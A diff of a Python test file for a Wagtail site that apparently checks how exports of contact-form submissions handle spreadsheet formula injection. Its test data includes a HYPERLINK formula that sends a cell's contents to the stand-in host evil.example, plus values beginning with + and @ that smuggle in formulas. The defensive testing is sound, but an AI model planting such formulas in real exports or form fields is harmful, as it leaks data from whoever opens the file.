@@ -13,17 +13,22 @@ from wagtail.contrib.forms.models import FormSubmission
 
 from articles.editorial import EDITORS, REVIEWERS
 
-from .test_contact import GOOD, contact, post  # noqa: F401 - the fixture
+from .test_contact import GOOD, make_contact_page, post
 from .test_workflow import login_as
 
 pytestmark = pytest.mark.django_db
 
 FORMULAS = {
-    "naam": "=HYPERLINK(\"https://evil.example/?\"&A2,\"Klik\")",
+    "naam": '=HYPERLINK("https://evil.example/?"&A2,"Klik")',
     "e_mailadres": "anna@example.org",
     "bericht": "+31 6 12345678 -- @SUM(1+1) en dan nog wat",
     "link": "",
 }
+
+
+@pytest.fixture
+def contact(tree):
+    return make_contact_page(tree)
 
 
 def submissions_url(page, export=None):
